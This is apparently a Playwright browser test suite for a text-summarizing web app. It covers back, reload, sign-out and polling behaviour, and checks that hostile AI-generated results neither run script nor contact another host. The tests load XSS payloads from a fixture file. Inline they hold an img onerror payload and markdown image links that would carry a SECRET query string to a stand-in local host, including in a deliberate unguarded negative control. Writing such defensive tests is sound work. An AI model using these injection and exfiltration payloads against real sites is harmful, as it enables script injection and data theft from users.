"""Back, reload and sign-out as a real browser does them, and a hostile result where it would run if it could.

One site for all of it, without a worker: the jobs are put into their states by hand.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tasks.database import Database
from tasks.ledger.jobs import transitions
from tests.browser.conftest import Complaints
from tests.support import factories
from tests.support.browser import session_and_axe
from tests.support.documents.office import FILES
from tests.support.processes.processes import answers, process
from webapp.local.ports import free_port
from webapp.models import Role

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

WORDS = "The harbour committee met. The north pier is closed."
RUNS = (FILES / "W07_xss_payloads.md").read_text()
LEAKS = "Closed. ![chart](http://127.0.0.1:9/c.png?q=SECRET) [go](http://127.0.0.1:9/x) <http://127.0.0.1:9/y>"


@dataclass
class Front:
    """A site, and an operator, who is a person too."""

    address: str
    database: Database
    account_id: uuid.UUID

    def jobs(self) -> int:
        with self.database.transaction() as session:
            return factories.count(session, "jobs")

    def succeeded(self, text: str, **more: str) -> uuid.UUID:
        with self.database.transaction() as session:
            job_id = factories.submit(session, self.account_id, text.encode(), **more).job_id
            transitions.succeed(session, factories.claim(session, job_id), text=text, facts={"provider": "local"})
        return job_id


@dataclass
class Window(Front):
    """A browser in which that person is signed in."""

    context: BrowserContext


@pytest.fixture(scope="module")
def front(addresses: dict[str, str]) -> Iterator[Front]:
    port = free_port()
    address = f"http://127.0.0.1:{port}"
    with Database(factories.settings(addresses), "waybill-test") as database:
        with database.transaction() as session:
            factories.empty(session)
            account_id = factories.make_account(session, role=Role.OPERATOR)
        variables = factories.environment(addresses, HOST="127.0.0.1", PORT=str(port))
        with process(["-m", "gunicorn", "wsgi:app"], variables) as web:
            factories.wait_until(lambda: answers(f"{address}/healthz"), within=60, what=lambda: web.log)
            yield Front(address, database, account_id)


@pytest.fixture
def window(chromium: Browser, front: Front) -> Window:
    context = chromium.new_context(base_url=front.address)
    with front.database.transaction() as session:
        factories.begin_session(session, front.account_id)  # an earlier test may have signed out
    session_and_axe.sign_in(context, front.address, front.account_id)
    return Window(front.address, front.database, front.account_id, context)


def hand_in(page: Page) -> str:
    page.get_by_role("button", name="Summarize").click()
    page.wait_for_url("**/jobs/*")
    return page.url.partition("?")[0]


def test_back_shows_the_text_and_sending_it_again_makes_nothing_new(window: Window) -> None:
    """Back showed the old form, and a second press made a second job; or the text was gone."""
    page, before = window.context.new_page(), window.jobs()
    page.goto("/")
    text = page.get_by_label("paste the text")
    text.fill(WORDS)
    first = hand_in(page)
    page.reload()
    page.go_back()
    expect(text).to_have_value(WORDS)
    assert hand_in(page) == first and window.jobs() == before + 1
    page.go_back()
    expect(text).to_have_value(WORDS)
    text.fill(f"{WORDS} One word more.")
    assert hand_in(page) != first and window.jobs() == before + 2
    page.go_back()
    page.go_forward()
    page.reload()
    assert window.jobs() == before + 2
    state = window.context.storage_state()
    assert window.context.browser is not None
    restored = window.context.browser.new_context(base_url=window.address, storage_state=state)  # type: ignore[arg-type]
    restored.new_page().goto(page.url)
    restored.close()
    assert window.jobs() == before + 2
    page.close()


def hostile_jobs(window: Window) -> list[str]:
    """Addresses of pages that show a hostile result, title or document name."""
    ran = window.succeeded(RUNS, title=RUNS.replace("\n", " ")[30:220])
    leaked = window.succeeded(LEAKS, title="![chart](http://127.0.0.1:9/c.png) <img src=x onerror=window.__xss=5>")
    own = [f"/jobs/{job_id}{more}" for job_id in (ran, leaked) for more in ("", "/status", "/delete")]
    return ["/", *own, *(f"/ops/jobs/{job_id}" for job_id in (ran, leaked)), "/ops"]


def test_a_hostile_result_runs_nothing_and_asks_no_other_host(window: Window, complaints: Complaints) -> None:
    """AI text ran as script on the site's own origin; a picture in it carried the document to another host."""
    page, asked, said = window.context.new_page(), [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    complaints.expect("favicon.ico")  # a fragment by itself names no icon
    hostile = hostile_jobs(window)
    for path in hostile:
        answer = page.goto(path)
        assert answer is not None and answer.status == 200, path
        assert page.evaluate("window.__xss") is None, path
    page.goto(hostile[4])
    expect(page.locator("#result")).to_contain_text("chart (http://127.0.0.1:9/c.png?q=SECRET)")
    assert page.locator("#result a, #result img").count() == 0
    expect(page.get_by_text("Addresses in it come from the document.")).to_be_visible()
    assert page.evaluate("document.cookie") == ""
    assert said == [] and all(url.startswith(f"{window.address}/") for url in asked)

    assert complaints.unexpected == []
    complaints.expect("")
    page.goto("about:blank")  # the negative control: in a page that does not guard itself, all of this happens
    page.set_content(f"{RUNS} <img src='http://127.0.0.1:9/c.png?q=SECRET'>")
    factories.wait_until(lambda: page.evaluate("window.__xss"))
    assert "http://127.0.0.1:9/c.png?q=SECRET" in asked
    page.close()


def test_polling_outlives_an_outage_and_ends_with_the_job(window: Window, complaints: Complaints) -> None:
    """Pollers gave up for good when the server was away for a moment, or went on for ever after the end."""
    with window.database.transaction() as session:
        job_id = factories.submit(session, window.account_id, b"A text that waits.").job_id
    page, polls = window.context.new_page(), []
    page.goto(f"/jobs/{job_id}")
    page.on("request", lambda request: polls.append(request.url) if "/status" in request.url else None)
    complaints.expect("ERR_INTERNET_DISCONNECTED", "Failed to fetch")
    window.context.set_offline(True)
    expect(page.get_by_text("The connection is interrupted. Still trying.")).to_be_visible()
    expect(page.locator("#job-status")).to_have_attribute("data-state", "queued")
    failed = len(polls)
    window.context.set_offline(False)
    factories.wait_until(lambda: page.evaluate("document.getElementById('net').hidden"))
    with window.database.transaction() as session:
        transitions.cancel(session, job_id, window.account_id)
    expect(page.locator("#job-status")).to_have_attribute("data-state", "cancelled")
    assert 0 < failed < len(polls)
    assert page.locator("[hx-get], [hx-trigger]").count() == 0, "nothing is left that could ask again"
    page.close()


def test_after_signing_out_back_leads_to_the_sign_in_page(window: Window) -> None:
    """The result was readable by Back, after its reader had signed out."""
    page = window.context.new_page()
    result = f"/jobs/{window.succeeded('The secret pier is closed.')}"
    page.goto(result)
    expect(page.locator("#result")).to_contain_text("secret pier")
    page.goto("/account")
    page.get_by_role("button", name="Sign out", exact=True).click()
    page.wait_for_url("**/login")
    page.go_back()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    page.go_back()
    page.wait_for_url(f"**/login?next={result}")
    assert "secret pier" not in page.content()
    page.close()
